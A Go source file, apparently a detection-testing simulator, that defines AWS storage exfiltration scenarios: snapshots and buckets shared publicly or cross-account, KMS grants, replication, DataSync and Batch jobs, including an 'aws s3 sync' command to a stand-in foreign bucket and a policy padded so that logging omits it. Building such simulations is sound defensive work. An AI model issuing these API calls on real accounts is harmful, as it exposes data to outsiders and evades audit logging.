package simulate

import "fmt"

// databaseSnapshot is a name for a snapshot of a database.
func (p *plot) databaseSnapshot() string {
	return p.thing("database snapshot", fmt.Sprintf("%s-final-%06x", apps[p.dice.below(len(apps))], p.dice.below(1<<24)))
}

func root(account string) string { return "arn:aws:iam::" + account + ":root" }

// storageScenarios are those about disks, databases, buckets and backups.
func storageScenarios() []Scenario {
	exfiltration := []string{"T1537"}
	return []Scenario{
		{
			Name: "ebs-snapshot-shared", Techniques: exfiltration, Outcome: "exposed",
			Summary: "The snapshot of a disk is shared with an outside account.",
			Finds:   "ModifySnapshotAttribute that adds an account",
			as:      byUser("storage-maint"),
			play: func(p *plot) []act {
				return append(look("ec2.DescribeSnapshots"), copying(2*minute, p.snapshot(), "add", toAccount(p.stranger())))
			},
		},
		{
			Name: "ebs-snapshot-public", Techniques: []string{"T1562.001", "T1537"}, Outcome: "exposed",
			Summary: "The block on public snapshots is lifted, then the snapshot of a disk is made public.",
			Finds:   "ModifySnapshotAttribute that adds the group all",
			as:      byPerson("trent"),
			play: func(p *plot) []act {
				return append(look("ec2.DescribeSnapshots"),
					act{at: 2 * minute, call: "ec2.DisableSnapshotBlockPublicAccess", evidence: true}.doing(shows, snapshotKind, ""),
					copying(9*minute, p.snapshot(), "add", p.everyone()))
			},
		},
		{
			Name: "rds-snapshot-shared", Techniques: exfiltration, Outcome: "exposed",
			Summary: "The snapshot of a database is shared with an outside account.",
			Finds:   "ModifyDBSnapshotAttribute that adds an account",
			as:      byUser("dba-contractor"),
			play: func(p *plot) []act {
				return append(look("rds.DescribeDBSnapshots"), restoring(2*minute, databaseKind, p.databaseSnapshot(), "add", p.stranger()))
			},
		},
		{
			Name: "rds-snapshot-public", Techniques: exfiltration, Outcome: "exposed",
			Summary: "The snapshot of a database is made public.",
			Finds:   "ModifyDBSnapshotAttribute that adds all",
			as:      byScript("db-refresh"),
			play: func(p *plot) []act {
				return append(look("rds.DescribeDBSnapshots"), restoring(2*minute, databaseKind, p.databaseSnapshot(), "add", p.to("all")))
			},
		},
		{
			Name: "rds-cluster-snapshot-shared", Techniques: exfiltration, Outcome: "exposed",
			Summary: "The snapshot of a database cluster is shared with an outside account.",
			Finds:   "ModifyDBClusterSnapshotAttribute that adds an account",
			as:      byUser("aurora-ops"),
			play: func(p *plot) []act {
				return append(look("rds.DescribeDBClusterSnapshots"), restoring(3*minute, databaseClusterKind, p.databaseSnapshot(), "add", p.stranger()))
			},
		},
		{
			Name: "image-export-s3", Techniques: []string{"T1537", "T1530"}, Outcome: "exposed",
			Summary: "Images and an instance are written as files to a bucket, in all three ways that there are.",
			Finds:   "CreateStoreImageTask, ExportImage and CreateInstanceExportTask by one caller",
			as:      byUser("vm-migration"),
			play: func(p *plot) []act {
				image := p.image()
				const bucket = "drop-zone-4f7c"
				p.thing("bucket", bucket)
				p.fix("%IMAGE", image)
				return append(look("ec2.DescribeImages", "ec2.DescribeInstances"),
					act{at: 2 * minute, call: "ec2.CreateStoreImageTask", evidence: true, request: fmt.Sprintf(`{"CreateStoreImageTaskRequest":{"ImageId":"%s","Bucket":"%s"}}`, image, bucket)},
					act{at: 6 * minute, call: "ec2.ExportImage", evidence: true, request: fmt.Sprintf(`{"ExportImageRequest":{"ImageId":"%s","DiskImageFormat":"VMDK","ClientToken":"$uuid","S3ExportLocation":{"S3Bucket":"%s","S3Prefix":"out/"}}}`, image, bucket)},
					act{at: 11 * minute, call: "ec2.CreateInstanceExportTask", evidence: true, request: fmt.Sprintf(`{"instanceId":"$instance","targetEnvironment":"vmware","exportToS3":{"diskImageFormat":"VMDK","containerFormat":"ova","s3Bucket":"%s","s3Prefix":"out/"}}`, bucket)})
			},
		},
		{
			Name: "kms-grant-then-share", Techniques: []string{"T1098", "T1537"}, Outcome: "exposed",
			Summary: "An outside account is granted the key of a snapshot, then the snapshot itself.",
			Finds:   "CreateGrant to a principal of another account, followed by ModifySnapshotAttribute for the same account",
			as:      byUser("kms-rotation"),
			play: func(p *plot) []act {
				to := p.stranger()
				p.thing("key", p.fix("$cmk", string(appendUUID(nil, p.dice.uint64(), p.dice.uint64()))))
				return append(look("kms.ListKeys", "ec2.DescribeSnapshots"),
					act{at: 3 * minute, call: "kms.CreateGrant:foreign", evidence: true, request: `{` + keyID + `,"granteePrincipal":"` + root(to) + `","operations":["Decrypt","DescribeKey","CreateGrant","ReEncryptFrom"]}`},
					copying(5*minute, p.snapshot(), "add", toAccount(to)))
			},
		},
		{
			Name: "bucket-policy-public", Techniques: []string{"T1562.001", "T1530"}, Outcome: "exposed",
			Summary: "A bucket loses its block on public access and gets a policy that lets everyone read.",
			Finds:   "PutBucketPolicy that allows the principal *",
			as:      byPerson("victor"),
			play: func(p *plot) []act {
				p.fix("$bucket", p.bucket())
				p.to("*")
				return []act{
					{call: "s3.GetBucketPublicAccessBlock"},
					{at: minute, call: "s3.DeleteBucketPublicAccessBlock", evidence: true, request: `{` + bucketHost + `,"publicAccessBlock":""}`},
					{at: 3 * minute, call: "s3.PutBucketPolicy", evidence: true, request: `{` + bucketHost + `,"policy":"","bucketPolicy":{"Version":"2012-10-17","Statement":[{"Sid":"PublicRead","Effect":"Allow","Principal":"*","Action":["s3:GetObject"],"Resource":["arn:aws:s3:::$bucket/*"]}]}}`},
				}
			},
		},
		{
			Name: "bucket-replication-foreign", Techniques: exfiltration, Outcome: "exposed",
			Summary: "A bucket is replicated into a bucket of an outside account.",
			Finds:   "PutBucketReplication whose destination is another account",
			as:      byUser("dr-replication"),
			play: func(p *plot) []act {
				p.fix("$bucket", p.bucket())
				return []act{
					{call: "s3.ListBuckets"},
					{at: minute, call: "s3.PutBucketVersioning", request: `{` + bucketHost + `,"versioning":"","VersioningConfiguration":{"Status":"Enabled"}}`},
					{at: 2 * minute, call: "s3.PutBucketReplication", evidence: true, request: `{` + bucketHost + `,"replication":"","ReplicationConfiguration":{"Role":"arn:aws:iam::$account:role/s3-replication","Rule":{"ID":"all","Priority":1,"Status":"Enabled","Filter":{"Prefix":""},"Destination":{"Bucket":"arn:aws:s3:::mirror-77b1","Account":"` + p.stranger() + `","AccessControlTranslation":{"Owner":"Destination"}},"DeleteMarkerReplication":{"Status":"Disabled"}}}}`},
				}
			},
		},
		{
			Name: "backup-vault-shared", Techniques: exfiltration, Outcome: "exposed",
			Summary: "A vault of backups is opened to an outside account, and a backup is copied there.",
			Finds:   "PutBackupVaultAccessPolicy that names another account, and StartCopyJob to it",
			as:      byUser("backup-admin"),
			play: func(p *plot) []act {
				to := p.stranger()
				vault := p.thing("backup vault", "Default")
				return append(look("backup.ListBackupVaults"),
					act{at: 2 * minute, call: "backup.PutBackupVaultAccessPolicy", evidence: true, request: `{"backupVaultName":"` + vault + `","policy":"{\"Version\":\"2012-10-17\",\"Statement\":[{\"Effect\":\"Allow\",\"Principal\":{\"AWS\":\"` + root(to) + `\"},\"Action\":\"backup:CopyFromBackupVault\",\"Resource\":\"*\"}]}"}`},
					act{at: 8 * minute, call: "backup.StartCopyJob", evidence: true, request: `{"recoveryPointArn":"arn:aws:ec2:$region::snapshot/$snapshot","sourceBackupVaultName":"` + vault + `","destinationBackupVaultArn":"arn:aws:backup:$region:` + to + `:backup-vault:incoming","iamRoleArn":"arn:aws:iam::$account:role/service-role/AWSBackupDefaultServiceRole","idempotencyToken":"$uuid"}`})
			},
		},
		{
			Name: "datasync-task", Techniques: []string{"T1119", "T1537"}, Outcome: "exposed",
			Summary: "A DataSync task copies a bucket to a bucket of an outside account.",
			Finds:   "CreateTask of DataSync, and StartTaskExecution",
			as:      byScript("datasync-runner"),
			play: func(p *plot) []act {
				p.fix("$bucket", p.bucket())
				p.thing("task", p.fix("%TASK", "task-0"+string(appendHex(nil, p.dice.uint64(), 16))))
				p.stranger()
				location := func(bucket string) string {
					return `{"s3BucketArn":"arn:aws:s3:::` + bucket + `","s3Config":{"bucketAccessRoleArn":"arn:aws:iam::$account:role/datasync"},"s3StorageClass":"STANDARD","subdirectory":"/","tags":[]}`
				}
				return []act{
					{call: "sts.GetCallerIdentity"},
					{at: minute, call: "datasync.CreateLocationS3", request: location("$bucket")},
					{at: 2 * minute, call: "datasync.CreateLocationS3", request: location("archive-inbox-2e19")},
					{at: 3 * minute, call: "datasync.CreateTask", evidence: true, request: `{"name":"nightly","sourceLocationArn":"arn:aws:datasync:$region:$account:location/loc-0$long","destinationLocationArn":"arn:aws:datasync:$region:$account:location/loc-0$hex","options":{"verifyMode":"ONLY_FILES_TRANSFERRED","overwriteMode":"ALWAYS","logLevel":"OFF"}}`},
					{at: 4 * minute, call: "datasync.StartTaskExecution", evidence: true, request: `{"taskArn":"arn:aws:datasync:$region:$account:task/%TASK"}`},
				}
			},
		},
		{
			Name: "batch-exfiltration", Techniques: []string{"T1119", "T1537"}, Outcome: "exposed",
			Summary: "A job of S3 Batch Operations copies a bucket's objects to a bucket of an outside account.",
			Finds:   "JobCreated, an event of the service itself, and CreateJob before it",
			as:      byUser("batch-ops"),
			play: func(p *plot) []act {
				p.fix("$bucket", p.bucket())
				p.stranger()
				p.thing("job", p.fix("%JOB", string(appendUUID(nil, p.dice.uint64(), p.dice.uint64()))))
				service := newActor(p.world, "", "", `{"accountId":"$account","invokedBy":"s3.amazonaws.com"}`)
				service.noTLS = true
				service.from([]string{"s3.amazonaws.com"}, []string{"s3.amazonaws.com"})
				return []act{
					{call: "s3.ListBuckets"},
					{
						at: 2 * minute, call: "s3.CreateJob", evidence: true, response: `{"jobId":"%JOB"}`,
						request: `{"Host":"$account.s3-control.$region.amazonaws.com","CreateJobRequest":{"ConfirmationRequired":false,"Operation":{"S3PutObjectCopy":{"TargetResource":"arn:aws:s3:::inbox-9c3d","StorageClass":"STANDARD"}},"Priority":10,"RoleArn":"arn:aws:iam::$account:role/batch-operations","ClientRequestToken":"$uuid","Manifest":{"Spec":{"Format":"S3BatchOperations_CSV_20180820","Fields":{"member":["Bucket","Key"]}},"Location":{"ObjectArn":"arn:aws:s3:::$bucket/manifest.csv","ETag":"$hex$hex"}},"Report":{"Enabled":false}}}`,
					},
					{at: 2*minute + 2*second, call: "s3.JobCreated", evidence: true, by: service},
				}
			},
		},
		{
			Name: "bucket-acl-public", Techniques: []string{"T1530"}, Outcome: "exposed",
			Summary: "The access control list of a bucket admits everyone.",
			Finds:   "PutBucketAcl with the canned list public-read",
			as:      byScript("static-site"),
			play: func(p *plot) []act {
				p.fix("$bucket", p.bucket())
				p.to("everyone")
				return []act{
					{call: "s3.GetBucketAcl"},
					{at: 2 * minute, call: "s3.PutBucketAcl", evidence: true, request: `{"x-amz-acl":"public-read",` + bucketHost + `,"acl":""}`},
				}
			},
		},
		{
			Name: "bucket-acl-foreign", Techniques: []string{"T1530"}, Outcome: "exposed",
			Summary: "The access control list of a bucket admits a canonical user of another account.",
			Finds:   "PutBucketAcl that grants to an ID other than the owner's",
			as:      byUser("legacy-ftp"),
			play: func(p *plot) []act {
				p.fix("$bucket", p.bucket())
				const owner = "75a9ff5b7a5e0b2d1c3e4f60718293a4b5c6d7e8f9010203040506070809ab1c"
				friend := p.to(string(appendHex(appendHex(appendHex(appendHex(nil, p.dice.uint64(), 16), p.dice.uint64(), 16), p.dice.uint64(), 16), p.dice.uint64(), 16)))
				grant := func(id, permission string) string {
					return `{"Grantee":{"xmlns:xsi":"http://www.w3.org/2001/XMLSchema-instance","xsi:type":"CanonicalUser","ID":"` + id + `"},"Permission":"` + permission + `"}`
				}
				return []act{
					{call: "s3.GetBucketAcl"},
					{at: 2 * minute, call: "s3.PutBucketAcl", evidence: true, request: `{` + bucketHost + `,"AccessControlPolicy":{"xmlns":"http://s3.amazonaws.com/doc/2006-03-01/","AccessControlList":{"Grant":[` + grant(owner, "FULL_CONTROL") + `,` + grant(friend, "READ") + `]},"Owner":{"ID":"` + owner + `"}},"acl":""}`},
				}
			},
		},
		{
			Name: "bucket-policy-padded", Techniques: []string{"T1530", "T1562.008"}, Outcome: "exposed",
			Summary: "A bucket gets a policy so large that the log leaves it out.",
			Finds:   "PutBucketPolicy whose requestParameters were omitted",
			as:      byScript("policy-sync"),
			play: func(p *plot) []act {
				p.fix("$bucket", p.bucket())
				return []act{
					{call: "s3.GetBucketPolicy"},
					{at: 2 * minute, call: "s3.PutBucketPolicy", evidence: true, request: `{"reason":"requestParameters too large","omitted":true,"originalSize":104211}`},
				}
			},
		},
		{
			Name: "kms-key-policy-foreign", Techniques: exfiltration, Outcome: "exposed",
			Summary: "The policy of a key admits an outside account.",
			Finds:   "PutKeyPolicy that allows another account",
			as:      byRole("KeyAdmin", "judy@example.com", agentTerraform),
			play: func(p *plot) []act {
				p.thing("key", p.fix("$cmk", string(appendUUID(nil, p.dice.uint64(), p.dice.uint64()))))
				const statement = `{\"Effect\":\"Allow\",\"Principal\":{\"AWS\":\"%s\"},\"Action\":%s,\"Resource\":\"*\"}`
				policy := fmt.Sprintf(statement, root("$account"), `\"kms:*\"`) + "," + fmt.Sprintf(statement, root(p.stranger()), `[\"kms:Decrypt\",\"kms:DescribeKey\"]`)
				return append(look("kms.ListKeys"),
					act{at: 2 * minute, call: "kms.PutKeyPolicy", evidence: true, request: `{` + keyID + `,"policyName":"default","policy":"{\"Version\":\"2012-10-17\",\"Statement\":[` + policy + `]}","bypassPolicyLockoutSafetyCheck":false}`})
			},
		},
		{
			Name: "batch-job-copies-out", Techniques: []string{"T1119", "T1567"}, Outcome: "exposed",
			Summary: "A job of AWS Batch copies a bucket to a bucket of another owner.",
			Finds:   "RegisterJobDefinition and SubmitJob with a command that copies",
			as:      byUser("hpc-jobs"),
			play: func(p *plot) []act {
				p.fix("$bucket", p.bucket())
				p.to("s3://collect-5d80")
				const command = `["aws","s3","sync","s3://$bucket","s3://collect-5d80/in"]`
				return []act{
					{call: "sts.GetCallerIdentity"},
					{at: minute, call: "batch.RegisterJobDefinition", evidence: true, request: `{"jobDefinitionName":"nightly-export","type":"container","containerProperties":{"image":"public.ecr.aws/aws-cli/aws-cli:2.17.20","command":` + command + `,"resourceRequirements":[{"type":"VCPU","value":"1"},{"type":"MEMORY","value":"2048"}],"jobRoleArn":"arn:aws:iam::$account:role/batch"}}`},
					{at: 2 * minute, call: "batch.SubmitJob", evidence: true, request: `{"jobName":"nightly-export","jobQueue":"default","jobDefinition":"nightly-export:1","containerOverrides":{"command":` + command + `}}`},
				}
			},
		},
	}
}
